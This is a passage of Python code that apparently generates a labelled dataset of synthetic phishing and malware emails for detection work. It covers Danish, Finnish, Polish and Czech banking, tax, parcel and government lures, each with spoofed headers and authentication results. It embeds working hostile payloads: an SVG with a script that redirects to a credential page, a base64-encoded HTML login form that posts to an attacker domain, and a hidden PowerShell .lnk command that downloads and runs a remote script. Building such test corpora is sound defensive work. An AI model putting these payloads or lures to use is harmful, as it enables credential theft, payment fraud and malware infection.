    add("phishing", "phish", n, "Genuine SharePoint sharing notification (Microsoft signs and passes DMARC) sent from the hijacked tenant of the recipient's accountant; the shared 'invoice' PDF leads to a Microsoft 365 credential page.",
        rx=("ms", "eurprd05"), rcpt="post@fjordbygg.no", t=t, ip=ip, helo=helo, rdns=helo, mailfrom="no-reply@sharepointonline.com",
        spf="pass", dkim=("sharepointonline.com", "selector1"), dmarc="pass", p="REJECT", hops=hops, head=head,
        body=Multi("alternative", boundary(name, "outlook"), [text(txt), text(html, "html")]), hlist=MS_HL, scl=1)


# ============================================================================= attacks: Denmark

def attacks_dk():
    n = "da-mitid-sendgrid-renewal"
    t = T("2023-10-24 16:40:02", "UTC")
    name = "b18-phish-" + n
    upn = f"u001.{b64(name + 'upn', 120).replace('/', '-').replace('+', '_')}"
    url = f"https://u38219744.ct.sendgrid.net/ls/click?upn={upn}"
    title = "Opdater din MitID-app"
    paras = ["Kære MitID-bruger,", "Som led i overgangen til den nye version af MitID-appen skal alle brugere bekræfte deres identitet og opdatere deres oplysninger. Vi har registreret, at din app endnu ikke er opdateret.",
             "Hvis du ikke opdaterer inden for 48 timer, vil din adgang til netbank, borger.dk og Digital Post blive midlertidigt spærret."]
    foot = ["MitID – Digitaliseringsstyrelsen og Finans Danmark.", "Denne e-mail er sendt automatisk og kan ikke besvares."]
    html = esp_html("da", "MitID", "#0060e6", "https://www.mitid.dk/media/1046/mitid-logo.png", title, paras, "Opdater MitID", url, foot,
                    pixel=f"https://u38219744.ct.sendgrid.net/wf/open?upn=u001.{b64(name + 'op', 90).replace('/', '-').replace('+', '_')}")
    head = [f"From: {addr('MitID', 'noreply@mitid-fornyelse.com')}", "Mime-Version: 1.0", f"Subject: {enc('Din MitID-app skal opdateres inden for 48 timer')}",
            f"Message-ID: <{alnum(name, 22)}@geopod-ismtpd-{num(name, 1, 40)}>", "Date: %DATE%",
            f"X-SG-EID: \n =?us-ascii?Q?{alnum(name + 'eid', 70)}?=", f"X-SG-ID: \n =?us-ascii?Q?{alnum(name + 'sgid', 70)}?=",
            "To: mette.kjaer@live.dk", f"X-Entity-ID: u001.{alnum(name + 'ent', 24)}"]
    add("phishing", "phish", n, "MitID 'update your app' lure sent through a SendGrid account for the registered domain mitid-fornyelse.com (SendGrid SPF and domain DKIM pass), links wrapped in SendGrid click tracking.",
        rx=OUTL, rcpt="mette.kjaer@live.dk", t=t, ip="149.72.154.231", helo="o1.ptr6612.mitid-fornyelse.com",
        mailfrom="bounces+38219744-a1f2-mette.kjaer=live.dk@em6612.mitid-fornyelse.com", spf="pass", dkim=("mitid-fornyelse.com", "s1"),
        dmarc="none", head=head, body=alt(name, "sg", plain(title, paras, "Opdater MitID", url, foot), html))

    n = "da-skat-refund-qr-pdf"
    t = T("2024-05-15 09:30:10", "Europe/Copenhagen")
    name = "b18-phish-" + n
    pdfdata = pdf_qr(["Skattestyrelsen", "Afgørelse om tilbagebetaling af overskydende skat - indkomståret 2023", "",
                      "Kære skatteyder,", "Din årsopgørelse for 2023 viser, at du har betalt for meget i skat.",
                      "Beløb til udbetaling: 5.128,40 kr.", "", "For at modtage beløbet skal du bekræfte din NemKonto med MitID.",
                      "Scan QR-koden nedenfor med din mobiltelefon.", "Fristen for bekræftelse er 7 dage fra modtagelsen af dette brev.", "",
                      "Med venlig hilsen", "Skattestyrelsen, Østbanegade 123, 2100 København Ø"],
                     "https://skat-refusion.net/mitid/?ref=DK5128", "Afgorelse_2023")
    txt = ("Kære modtager,\n\nVedhæftet finder du Skattestyrelsens afgørelse vedrørende din årsopgørelse for 2023. "
           "Læs brevet og følg vejledningen for at modtage din tilbagebetaling.\n\nMed venlig hilsen\nSkattestyrelsen\n")
    head = ["Date: %DATE%", "To: jens.poulsen@mail.dk", f"From: {addr('Skattestyrelsen', 'info@skat-dk-refusion.com')}",
            f"Subject: {enc('Afgørelse om tilbagebetaling af skat 2023')}", f"Message-ID: {mid_php(name, 'skat-dk-refusion.com')}", "MIME-Version: 1.0"]
    add("phishing", "phish", n, "SKAT refund letter as a PDF whose only call to action is a QR code (to skat-refusion.net) - nothing clickable in the mail body, sender a registered lookalike with its own SPF/DKIM.",
        rx=MAILDK, rcpt="jens.poulsen@mail.dk", t=t, ip="185.222.58.140", helo="mail.skat-dk-refusion.com",
        mailfrom="info@skat-dk-refusion.com", dkim=("skat-dk-refusion.com", "default"), head=head,
        body=Multi("mixed", boundary(name, "other"), [text(txt), attachment("application/pdf", "Skattestyrelsen_Afgorelse_2023.pdf", pdfdata)]))

    n = "da-dao-redelivery-fee"
    url = f"https://dao-levering.shop/dk/genlevering?id={hx(n, 10)}"
    title = "Vi kunne ikke aflevere din pakke"
    paras = ["Hej,", "Vi forsøgte at levere din pakke i dag, men der var ingen hjemme, og pakken kunne ikke afleveres i din postkasse. Pakken er blevet tilbageholdt i vores lager.",
             "Du kan vælge et nyt leveringstidspunkt eller en pakkeshop. Bemærk, at der opkræves et gebyr for genlevering på <b>12,00 DKK</b>."]
    foot = "DAO A/S · Ny Banegårdsgade 55 · 8000 Aarhus C"
    kit(n, "DAO missed-delivery kit from dao-levering.shop (its own SPF/DKIM pass) charging a DKK 12 redelivery fee on a card form.",
        rx=GM, rcpt="anne.lund@gmail.com", t=T("2024-12-03 17:21:09", "UTC"), frm=addr("DAO", "kundeservice@dao-levering.shop"),
        subject="DAO: Vi kunne ikke aflevere din pakke", html=kit_html("da", "DAO", "#e2001a", title, paras, "Vælg ny levering", url, foot, 0),
        txt=plain(title, paras, "Vælg ny levering", url, [foot]), ip="80.66.88.203", helo="mail.dao-levering.shop")

    n = "da-danske-callback-card"
    txt = ("Kære kunde,\n\nVi har i dag blokeret en mistænkelig transaktion på dit Visa/Dankort:\n\nBeløb: 7.450,00 DKK\nForretning: APPLE.COM/BILL IE\n"
           "Tidspunkt: 11.02.2025 kl. 06:14\n\nHvis du IKKE har foretaget denne betaling, skal du straks ringe til vores afdeling for svindelbekæmpelse på "
           "tlf. 78 76 42 19 (åben 24/7), så vi kan annullere transaktionen og udstede et nyt kort.\n\n"
           "Hvis transaktionen ikke bliver bestridt inden for 24 timer, vil beløbet blive gennemført.\n\n"
           "Af sikkerhedsmæssige årsager bedes du ikke besvare denne e-mail.\n\nMed venlig hilsen\nDanske Bank Kortservice\nHolmens Kanal 2-12, 1092 København K\n")
    gmail_send("phishing", "phish", n, "Danske Bank card-fraud callback scam from a Gmail account: no link or attachment, only a phone number for a fake fraud department.",
               rx=OUTL, rcpt="kim.rasmussen@outlook.dk", t=T("2025-02-11 07:02:48", "Europe/Copenhagen"),
               frm="Danske Bank Kortservice <kortservice.danskebank@gmail.com>", to="kim.rasmussen@outlook.dk",
               subject="Vigtigt: Mistænkelig korttransaktion blokeret (ref. DB-558201)", body=text(txt))

    n = "da-invoice-bank-change-thread"
    txt = ("Hej Birgit,\n\nTak for din besked. Jeg skal lige gøre opmærksom på, at vi pr. 1. november er skiftet til ny bankforbindelse i forbindelse med vores nye koncernaftale, "
           "så betalingen af faktura 24-1187 skal ske til vores nye konto:\n\nBank: Lunar Bank A/S\nReg.nr.: 6695\nKontonr.: 2007418833\nBeløb: 84.312,50 kr.\n\n"
           "Den gamle konto i Jyske Bank lukkes ved udgangen af måneden, så indbetalinger dertil vil blive returneret. Vil du bekræfte, når betalingen er sat i gang? "
           "Opdateret faktura med de nye oplysninger følger, når vores økonomisystem er opdateret.\n\nMed venlig hilsen\n\nLone Damgaard\nBogholder\nNordisk Rørhandel ApS\n"
           "Industrivej 14, 7400 Herning\nTlf. +45 97 12 44 80\n\n"
           "Fra: Birgit Mortensen <bogholderi@vestjysk-vvs.dk>\nSendt: 18. november 2024 10:12\nTil: Lone Damgaard <lone.damgaard@nordiskroerhandel.dk>\n"
           "Emne: SV: Faktura 24-1187 – Vestjysk VVS\n\nHej Lone\n\nTak, fakturaen er modtaget og godkendt. Den bliver betalt fredag sammen med de øvrige.\n\n"
           "Venlig hilsen\nBirgit Mortensen\nVestjysk VVS ApS\n\n"
           "Fra: Lone Damgaard <lone.damgaard@nordiskroerhandel.dk>\nSendt: 4. november 2024 14:27\nTil: bogholderi@vestjysk-vvs.dk\n"
           "Emne: Faktura 24-1187 – Vestjysk VVS\n\nHej\n\nVedhæftet faktura 24-1187 for levering af rør og fittings (ordre 55871). Betalingsbetingelser: løbende måned + 30 dage.\n\n"
           "Med venlig hilsen\nLone Damgaard\n")
    _, c2box, _, _ = hops_o365_out("b18-legit-da-supplier-invoice-pdf", "eurprd08", T("2024-11-04 14:27:18", "Europe/Copenhagen"))
    refs = [mid_outlook("b18-legit-da-supplier-invoice-pdf", c2box, "eurprd08"), f"<DB9PR03MB{num(n, 1000, 9999)}{hx(n + 'r2', 24).upper()}@DB9PR03MB7436.eurprd03.prod.outlook.com>"]
    o365_send("phishing", "phish", n, "Thread hijack: a reply in the genuine invoice thread from the lookalike nordisk-roerhandel.com (attacker's own Microsoft 365 tenant, SPF/DKIM pass) asking to pay DKK 84,312.50 to a new bank account; no link.",
              rx=ONECOM, rcpt="bogholderi@vestjysk-vvs.dk", t=T("2024-11-20 09:41:15", "Europe/Copenhagen"),
              frm="Lone Damgaard <lone.damgaard@nordisk-roerhandel.com>", to="Birgit Mortensen <bogholderi@vestjysk-vvs.dk>",
              subject="SV: Faktura 24-1187 – Vestjysk VVS", lang="da-DK", txt=txt, region="eurprd08", refs=refs, dmarc="none", spam=2.1)


# ============================================================================= attacks: Finland

def attacks_fi():
    n = "fi-posti-customs-fee"
    url = f"https://posti-seuranta.link/fi/maksu?l={hx(n, 10)}"
    title = "Lähetyksesi odottaa maksua"
    paras = ["Hei,", "Lähetyksesi <b>JJFI64021750001234567</b> on saapunut Suomeen, mutta sitä ei voida toimittaa ennen kuin tulli- ja käsittelymaksu on maksettu.",
             "Maksettava summa: <b>2,99 €</b>. Maksa maksu 3 päivän kuluessa, muuten lähetys palautetaan lähettäjälle."]
    foot = "Posti Oy, PL 7, 00011 POSTI. Tämä on automaattinen viesti, älä vastaa tähän viestiin."
    kit(n, "Posti customs-fee kit (EUR 2.99) from posti-seuranta.link, own SPF/DKIM, Posti logo hotlinked from the real site.",
        rx=ELISA, rcpt="mikko.virtanen@elisanet.fi", t=T("2023-12-05 06:55:31", "UTC"), frm=addr("Posti", "noreply@posti-seuranta.link"),
        subject="Lähetyksesi odottaa: tullimaksu 2,99 € maksamatta",
        html=kit_html("fi", "Posti", "#f56b26", title, paras, "Maksa ja seuraa lähetystä", url, foot, 0, logo="https://www.posti.fi/static/posti-logo.svg"),
        txt=plain(title, paras, "Maksa ja seuraa lähetystä", url, [foot]), ip="5.181.80.77", helo="mail.posti-seuranta.link")

    n = "fi-vero-refund-pagesdev"
    url = f"https://vero-palautus-2023.pages.dev/?id=FI{num(n, 100000, 999999)}"
    title = "Veronpalautus"
    paras = ["Hyvä veronmaksaja,", "Vuotuisen verolaskelman jälkeen olemme päättäneet, että olet oikeutettu saamaan veronpalautus summa <b>742,18 EUR</b>.",
             "Jotta voimme käsitellä palautuksesi, sinun on vahvistettava tietosi pankkitunnuksilla. Palautus maksetaan tilillesi 2-3 työpäivän sisällä vahvistuksen jälkeen.",
             "Huomautus: Jos et vahvista tietojasi 48 tunnin kuluessa, palautus peruutetaan."]
    foot = "Verohallinto © 2024 | Kaikki oikeudet pidätetään"
    kit(n, "Machine-translated Vero tax-refund lure (unsigned, SPF pass for its own domain) pointing to a Cloudflare pages.dev bank-login phishing page.",
        rx=GM, rcpt="sanna.laine@gmail.com", t=T("2024-08-01 22:14:50", "UTC"), frm=addr("Verohallinto", "noreply@verohallinto-palvelu.com"),
        subject="Veronpalautus 2023: 742,18 € odottaa vahvistusta", html=kit_html("fi", "Verohallinto", "#003479", title, paras, "Vahvista palautus", url, foot, 1),
        txt=plain(title, paras, "Vahvista palautus", url, [foot]), dkim=None, ip="185.196.9.158", helo="host158.verohallinto-palvelu.com")

    n = "fi-op-tunnusluku-botnet"
    url = "https://op-fi-verkkopalvelu.web-login-secure.com/op/tunnistus/"
    title = "OP: Tärkeä turvallisuus ilmoitus"
    paras = ["Hyvä asiakas,", "Tunnuslukusi on vanhentunut, ja sinun täytyy päivittää se jatkaaksesi palvelumme käyttöä. Turvallisuus syistä tilisi on väliaikaisesti rajoitettu.",
             "Klikkaa alla olevaa linkkiä ja seuraa ohjeita päivittääksesi tietosi. Prosessi kestää vain 2 minuuttia."]
    foot = "OP Ryhmä © 2023. Tämä viesti on lähetetty automaattisesti."
    kit(n, "Broken-Finnish OP lure sent from a residential botnet host (SPF softfail, unsigned) to an Outlook.com user, linking to a credential page.",
        rx=OUTL, rcpt="hannu.makela@outlook.com", t=T("2023-06-20 03:12:44", "Europe/Helsinki"), frm=addr("OP Ryhmä", "op@op-verkkopalvelu.com"),
        subject=title, html=kit_html("fi", "OP", "#ff6a10", title, paras, "Päivitä tiedot", url, foot, 2),
        txt=plain("", paras, "Päivitä tiedot", url, [foot]), dkim=None, spf="softfail", mailer="Microsoft Outlook Express 6.00.2900.5512",
        bstyle="other", ip="201.182.53.19", helo="User", rdns="201-182-53-19.netlink.com.br", spam=8.4)

    n = "fi-m365-voicemail-svg"
    t = T("2025-04-08 10:13:02", "Europe/Helsinki")
    name = "b18-phish-" + n
    target = base64.b64encode(b"https://pub-7c1f0a9e4b2d4e3f8a6b5c4d3e2f1a0b.r2.dev/auth/index.html").decode()
    who = base64.b64encode(b"tuomas.heikkinen@kuljetus-heikkinen.fi").decode()
    svg = f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" width="420" height="120" viewBox="0 0 420 120">
<rect width="420" height="120" rx="6" fill="#f3f2f1"/>
<text x="24" y="52" font-family="Segoe UI, Arial" font-size="17" fill="#323130">Ääniviesti +358 40 ***4567</text>
<text x="24" y="82" font-family="Segoe UI, Arial" font-size="13" fill="#605e5c">Ladataan... 00:47</text>
<script type="text/javascript"><![CDATA[
var _e="{who}",_t="{target}";
setTimeout(function(){{window.location.href=atob(_t)+"#"+atob(_e);}},300);
]]></script>
</svg>
"""
    html = ('<html><head><meta charset="utf-8"></head><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#323130">'
            '<p style="font-size:18px">Sinulle on uusi ääniviesti</p>'
            '<table cellpadding="4"><tr><td style="color:#605e5c">Soittaja:</td><td>+358 40 ***4567</td></tr><tr><td style="color:#605e5c">Kesto:</td><td>00:47</td></tr>'
            '<tr><td style="color:#605e5c">Vastaanotettu:</td><td>8.4.2025 klo 10.12</td></tr></table>'
            '<p>Kuuntele ääniviesti avaamalla liitteenä oleva tiedosto.</p><p style="color:#8a8886;font-size:11px">Microsoft Teams -puhelinvastaaja</p></body></html>')
    kit(n, "Voicemail notice spoofing the recipient's own domain from an outside host (SPF pass only for the envelope domain, DMARC fail with p=none) carrying an SVG whose script redirects to an r2.dev Microsoft 365 login page.",
        rx=("ms", "eurprd09"), rcpt="tuomas.heikkinen@kuljetus-heikkinen.fi", t=t,
        frm=addr("Kuljetus Heikkinen Oy Puhelinvastaaja", "voicemail@kuljetus-heikkinen.fi"),
        subject="Uusi ääniviesti: +358 40 ***4567 (0:47)", html=html, txt=plain("Sinulle on uusi ääniviesti", ["Soittaja: +358 40 ***4567", "Kesto: 00:47", "Vastaanotettu: 8.4.2025 klo 10.12", "Kuuntele ääniviesti avaamalla liitteenä oleva tiedosto."]),
        attach=[attachment("image/svg+xml", "Aaniviesti_+358401234567_0047.svg", svg.encode())], mailfrom="admin@tlcmediagroup.net",
        dkim=None, dmarc="fail", p="NONE", mailer=None, bstyle="other", ip="23.95.182.44", helo="tlcmediagroup.net", mid_host="tlcmediagroup.net")


# ============================================================================= attacks: Poland

def attacks_pl():
    n = "pl-inpost-doplata"
    url = "https://inpost-pl.info/paczka/6291043381?kwota=1.99"
    title = "Twoja paczka oczekuje na dopłatę"
    paras = ["Dzień dobry,", "Twoja przesyłka nr <b>6291043381027450116655</b> nie może zostać umieszczona w Paczkomacie z powodu nieuregulowanej opłaty za przesyłkę w wysokości <b>1,99 zł</b>.",
             "Prosimy o uregulowanie płatności w ciągu 24 godzin. Po tym czasie paczka zostanie zwrócona do nadawcy."]
    foot = "InPost Sp. z o.o., ul. Pana Tadeusza 4, 30-727 Kraków. Wiadomość wygenerowana automatycznie."
    kit(n, "InPost 1,99 zł surcharge kit from the lookalike inpost-pl.info (own SPF/DKIM) leading to a BLIK/card payment page.",
        rx=WP, rcpt="kasia.wojcik@wp.pl", t=T("2024-02-20 12:40:00", "Europe/Warsaw"), frm=addr("InPost", "powiadomienia@inpost-pl.info"),
        subject="Twoja paczka oczekuje na dopłatę 1,99 zł", html=kit_html("pl", "InPost", "#1d1d1b", title, paras, "Zapłać 1,99 zł", url, foot, 0, logo="https://inpost.pl/themes/inpost/logo.svg"),
        txt=plain(title, paras, "Zapłać 1,99 zł", url, [foot]), ip="45.142.122.90", helo="mail.inpost-pl.info")

    n = "pl-olx-buyer-gmail"
    txt = ("Dzień dobry,\nkupiłam Pana rower Kross Hexagon z ogłoszenia na OLX. Zapłaciłam już przez OLX Przesyłki, pieniądze czekają na Pana.\n"
           "Żeby je otrzymać, trzeba tylko potwierdzić sprzedaż i podać dane karty, na którą ma przyjść przelew:\n"
           "https://olx.pl-bezpieczna-platnosc.shop/dostawa/92817\n\nKurier InPost odbierze rower jutro. Proszę dać znać jak Pan potwierdzi.\n\nPozdrawiam\nAgnieszka\n")
    gmail_send("phishing", "phish", n, "OLX 'buyer already paid' scam from Gmail (DMARC pass) directing the seller to a fake OLX delivery page that collects card data.",
               rx=GM, rcpt="tomasz.nowak88@gmail.com", t=T("2023-08-17 19:33:12", "Europe/Warsaw"),
               frm=addr("Agnieszka Zielińska", "agnieszka.zielinska.kupuje@gmail.com"), to="tomasz.nowak88@gmail.com",
               subject="Rower Kross Hexagon - OLX", body=gtext(n, txt))

    n = "pl-mobywatel-verification"
    url = f"https://mobywatel-weryfikacja.com/logowanie?ref={hx(n, 12)}"
    title = "Wymagana ponowna weryfikacja tożsamości"
    paras = ["Szanowny Użytkowniku,", "W związku z wdrożeniem nowej wersji aplikacji mObywatel 2.0 wszyscy użytkownicy zobowiązani są do ponownego potwierdzenia tożsamości. Weryfikacja odbywa się przez bankowość elektroniczną (tak jak przy zakładaniu Profilu Zaufanego).",
             "Brak weryfikacji do dnia <b>19 maja 2025 r.</b> spowoduje dezaktywację dokumentów w aplikacji, w tym mDowodu."]
    foot = ["Ministerstwo Cyfryzacji, ul. Królewska 27, 00-060 Warszawa", "Wiadomość została wygenerowana automatycznie, prosimy na nią nie odpowiadać."]
    kit(n, "Polished mObywatel re-verification lure (gov.pl emblem hotlinked, registered lookalike with own SPF/DKIM) that sends the victim through a fake bank-login 'identity check'.",
        rx=ONET, rcpt="jan.kaczmarek@onet.pl", t=T("2025-05-12 08:15:42", "Europe/Warsaw"), frm=addr("mObywatel", "powiadomienia@mobywatel-weryfikacja.com"),
        subject="mObywatel: wymagana ponowna weryfikacja tożsamości",
        html=esp_html("pl", "mObywatel", "#0052a5", "https://www.gov.pl/img/icons/godlo-12.svg", title, paras, "Zweryfikuj tożsamość", url, foot),
        txt=plain(title, paras, "Zweryfikuj tożsamość", url, foot), ip="147.45.47.92", helo="mail.mobywatel-weryfikacja.com", dkim=("mobywatel-weryfikacja.com", "mail"))

    n = "pl-pko-html-attachment"
    inner = """<html><head><meta charset="utf-8"><title>iPKO biznes</title><style>body{font-family:Arial;background:#f4f4f4}.c{width:360px;margin:70px auto;background:#fff;padding:28px;border-top:5px solid #004c9a}
input{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #bbb}button{background:#004c9a;color:#fff;border:0;padding:12px;width:100%}</style></head>
<body><div class="c"><img src="https://www.pkobp.pl/media_files/logo-pko-bp.svg" height="36"><h3>Logowanie do iPKO biznes</h3>
<form method="post" action="https://pkobp-bezpieczenstwo.pl/ipko/login.php"><label>Identyfikator firmy</label><input name="fid"><label>Login</label><input name="login">
<label>Hasło</label><input type="password" name="pass"><button>Zaloguj</button></form><p style="font-size:11px;color:#777">Dyspozycja nr 2024/03/27/118402 oczekuje na autoryzację.</p></div></body></html>"""
    enc_inner = base64.b64encode(inner.encode()).decode()
    page = f'<!DOCTYPE html>\n<html><head><meta charset="utf-8"></head><body>\n<script>\ndocument.write(decodeURIComponent(escape(atob("{enc_inner}"))));\n</script>\n</body></html>\n'
    html = ("<p>Szanowni Państwo,</p><p>w systemie iPKO biznes oczekuje dyspozycja wymagająca autoryzacji. Szczegóły dyspozycji znajdują się w załączonym dokumencie. "
            "Aby ją zatwierdzić lub odrzucić, otwórz załącznik i zaloguj się do serwisu.</p><p>Z poważaniem<br>PKO Bank Polski SA</p>")
    kit(n, "PKO BP business-banking 'pending order' notice with an HTML attachment that base64-decodes a fake iPKO biznes login posting to the attacker's domain.",
        rx=HOMEPL, rcpt="biuro@kowalski-transport.pl", t=T("2024-03-27 09:02:11", "Europe/Warsaw"), frm=addr("PKO Bank Polski", "powiadomienia@pkobp-bezpieczenstwo.pl"),
        subject="Dyspozycja oczekuje na autoryzację – iPKO biznes", html=html, txt=plain("", [strip(x) for x in re.findall(r"<p>(.*?)</p>", html)]),
        attach=[attachment("text/html", "iPKO_biznes_dyspozycja_27032024.html", page.encode())], ip="89.23.98.15", helo="mail.pkobp-bezpieczenstwo.pl")

    n = "pl-etoll-unpaid-a2"
    url = f"https://e-toll-oplaty.pl/platnosc?nr=PL{num(n, 1000000, 9999999)}"
    title = "Wezwanie do uiszczenia opłaty"
    paras = ["Szanowny Kierowco,", "System e-TOLL zarejestrował przejazd Twojego pojazdu odcinkiem autostrady A2 Konin – Stryków w dniu 03.07.2024 bez uiszczenia opłaty. Kwota do zapłaty wynosi <b>21,40 zł</b>.",
             "Nieuregulowanie należności w ciągu 3 dni roboczych skutkować będzie nałożeniem kary administracyjnej w wysokości 500 zł."]
    foot = "Krajowa Administracja Skarbowa – System e-TOLL"
    kit(n, "e-TOLL unpaid-motorway-toll lure (unsigned, SPF pass for the lookalike) threatening a 500 zł penalty and linking to a payment page.",
        rx=INTERIA, rcpt="m.wisniewski@interia.pl", t=T("2024-07-09 14:41:30", "UTC"), frm=addr("e-TOLL", "powiadomienia@e-toll-oplaty.pl"),
        subject="e-TOLL: wezwanie do uiszczenia opłaty za przejazd (A2)", html=kit_html("pl", "e-TOLL", "#d4213d", title, paras, "Opłać przejazd", url, foot, 1),
        txt=plain(title, paras, "Opłać przejazd", url, [foot]), dkim=None, ip="193.143.1.54", helo="mail.e-toll-oplaty.pl")

    n = "pl-allegro-suspended-mailgun"
    t = T("2023-05-30 07:12:03", "UTC")
    name = "b18-phish-" + n
    url = f"http://email.mg.allegro-pomoc.pl/c/eJw{b64(name + 'mg', 180).replace('/', '_').replace('+', '-')}"
    title = "Twoje konto zostało tymczasowo zawieszone"
    paras = ["Cześć,", "Wykryliśmy nietypową aktywność na Twoim koncie Allegro (logowanie z nowego urządzenia, Lagos, Nigeria). Dla Twojego bezpieczeństwa tymczasowo zawiesiliśmy możliwość dokonywania zakupów i wypłat.",
             "Aby przywrócić pełny dostęp, potwierdź swoje dane w ciągu 24 godzin."]
    foot = ["Allegro.pl sp. z o.o., ul. Grunwaldzka 182, 60-166 Poznań"]
    head = [f"X-Mailgun-Sending-Ip: 159.135.228.12", f"X-Mailgun-Sid: WyI{alnum(name + 'sid', 40)}", "Date: %DATE%",
            f"From: {addr('Allegro', 'powiadomienia@allegro-pomoc.pl')}", f"Subject: {enc(title)}", "To: ewa.kaminska@o2.pl",
            f"Message-Id: <{t.strftime('%Y%m%d%H%M%S')}.{hx(name, 16)}@mg.allegro-pomoc.pl>", "Mime-Version: 1.0"]
    add("phishing", "phish", n, "Allegro account-suspension lure sent via Mailgun for the registered allegro-pomoc.pl (Mailgun SPF, subdomain DKIM pass) with Mailgun click-tracking links.",
        rx=O2, rcpt="ewa.kaminska@o2.pl", t=t, ip="159.135.228.12", helo="m228-12.mailgun.net",
        mailfrom=f"bounce+8e1c2a.4d5e6f-ewa.kaminska=o2.pl@mg.allegro-pomoc.pl", dkim=("mg.allegro-pomoc.pl", "mx"), head=head,
        body=alt(name, "other", plain(title, paras, "Potwierdź dane", url, foot),
                 esp_html("pl", "Allegro", "#ff5a00", "https://a.allegroimg.com/original/12c30c/0d4b068640de9b0daf22af9d97c5/allegro-logo.png", title, paras, "Potwierdź dane", url, foot,
                          pixel=f"http://email.mg.allegro-pomoc.pl/o/eJw{b64(name + 'op', 80).replace('/', '_').replace('+', '-')}")))

    n = "pl-faktura-zip-lnk-dropper"
    t = T("2024-11-26 11:47:03", "Europe/Warsaw")
    name = "b18-phish-" + n
    lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "-w hidden -nop -ep bypass -c \"$u='https://cdn-faktury24.com/s/0342.ps1';iex((New-Object Net.WebClient).DownloadString($u))\"")
    zdata = zipcrypto([("FV_2024_11_0342.pdf.lnk", lnk)], b"0342", name)
    txt = ("Dzień dobry,\n\nw załączeniu przesyłam fakturę FV/2024/11/0342 za dostawę płyt meblowych z dnia 22.11.2024 wraz ze specyfikacją.\n"
           "Ze względu na dane osobowe plik jest zabezpieczony hasłem: 0342\n\nProszę o potwierdzenie otrzymania.\n\n"
           "Pozdrawiam\nPaweł Grabowski\nDział Sprzedaży\nDREWPOL Tartak Sp. z o.o.\ntel. +48 41 276 18 40\n")
    head = [f"Message-ID: {mid_uuid(name, 'drewpol-tartak.pl')}", "Date: %DATE%", "MIME-Version: 1.0", "User-Agent: Mozilla Thunderbird",
            "Content-Language: pl", "To: ksiegowosc@meble-sadowski.pl", f"From: {addr('Paweł Grabowski', 'p.grabowski@drewpol-tartak.pl')}",
            "Subject: Faktura FV/2024/11/0342"]
    add("malware", "phish", n, "Invoice mail from a supplier's compromised mailbox (its SPF/DKIM/DMARC pass) with a password-protected ZIP (password in the body) holding a .pdf.lnk that runs PowerShell to fetch a payload.",
        rx=NAZWA, rcpt="ksiegowosc@meble-sadowski.pl", t=t, ip="79.96.170.12", helo="serwer2318492.home.pl",
        mailfrom="p.grabowski@drewpol-tartak.pl", dkim=("drewpol-tartak.pl", "default"), dmarc="pass", p="NONE",
        hops=[hop_pf("serwer2318492.home.pl", "[192.168.1.24]", "83.24.117.9", t + timedelta(seconds=1), "Europe/Warsaw")], head=head,
        body=Multi("mixed", boundary(name, "tb"), [text(txt, "plain", "8bit"), attachment("application/zip", "FV_2024_11_0342.zip", zdata)]), spam=3.4)


# ============================================================================= attacks: Czechia, Romania, Hungary

def attacks_cz_ro_hu():
    n = "cs-ceskaposta-redelivery"
    url = f"https://ceskaposta-zasilky.cz/doruceni?id=RR482019377CZ&s={hx(n, 6)}"
    title = "Zásilku se nepodařilo doručit"
    paras = ["Vážený zákazníku,", "Vaši zásilku <b>RR482019377CZ</b> se nám dnes nepodařilo doručit, protože adresa na štítku je neúplná. Zásilka je uložena na depu Praha.",
             "Pro opětovné doručení prosím potvrďte svou adresu a uhraďte poplatek za opakované doručení ve výši <b>32 Kč</b>. Zásilka bude uložena 5 dní, poté bude vrácena odesílateli."]
    foot = "Česká pošta, s.p., Politických vězňů 909/4, 225 99 Praha 1"
    kit(n, "Česká pošta redelivery-fee kit (32 Kč) from the registered lookalike ceskaposta-zasilky.cz with its own SPF/DKIM.",
        rx=SEZNAM, rcpt="petr.dvorak@seznam.cz", t=T("2024-04-03 10:21:55", "Europe/Prague"), frm=addr("Česká pošta", "info@ceskaposta-zasilky.cz"),
        subject="Vaše zásilka RR482019377CZ nemohla být doručena", html=kit_html("cs", "Česká pošta", "#002776", title, paras, "Naplánovat doručení", url, foot, 0),
        txt=plain(title, paras, "Naplánovat doručení", url, [foot]), ip="91.215.85.44", helo="mail.ceskaposta-zasilky.cz")

    n = "cs-datovaschranka-lookalike"
    url = "https://mojedatovaschranka.datove-schranky.eu/as/login?zprava=1438820917"
    title = "Nová datová zpráva"
    paras = ["Dobrý den,", "do Vaší datové schránky byla dodána nová datová zpráva.",
             "<b>Odesílatel:</b> Finanční úřad pro hlavní město Prahu<br><b>Věc:</b> Výzva k úhradě nedoplatku na dani z příjmů fyzických osob<br><b>ID zprávy:</b> 1438820917",
             "Zprávu si zobrazíte po přihlášení do své datové schránky. Upozorňujeme, že datová zpráva se považuje za doručenou uplynutím 10 dnů od jejího dodání."]
    foot = ["Informační systém datových schránek – Digitální a informační agentura.", "Tato zpráva byla vygenerována automaticky."]
    kit(n, "Datová schránka delivery notice imitating ISDS with a tax-arrears subject; the login link sits on a subdomain named mojedatovaschranka under datove-schranky.eu.",
        rx=SEZNAM, rcpt="jana.novotna@email.cz", t=T("2025-01-28 07:58:12", "Europe/Prague"), frm=addr("Datové schránky", "notifikace@datove-schranky.eu"),
        subject="Nová datová zpráva ve Vaší datové schránce", html=esp_html("cs", "Datové schránky", "#2362a2", "https://www.mojedatovaschranka.cz/static/img/logo-isds.svg", title, paras, "Přihlásit se do datové schránky", url, foot),
        txt=plain(title, paras, "Přihlásit se do datové schránky", url, foot), ip="194.26.29.113", helo="mail.datove-schranky.eu", dkim=("datove-schranky.eu", "dkim"))

    n = "cs-csob-identita"
    url = "https://csob-overeni.com/identita/prihlaseni"
    title = "Ověření identity"
    paras = ["Vážený kliente,", "v souvislosti s novými požadavky zákona proti praní špinavých peněz je nutné ověřit Vaši identitu v aplikaci ČSOB Identita. Bez ověření bude přístup do ČSOB Smart a Internetového bankovnictví omezen.",
             "Ověření provedete během několika minut kliknutím na tlačítko níže a přihlášením pomocí Vašich přístupových údajů."]
    foot = "Československá obchodní banka, a. s., Radlická 333/150, 150 57 Praha 5"
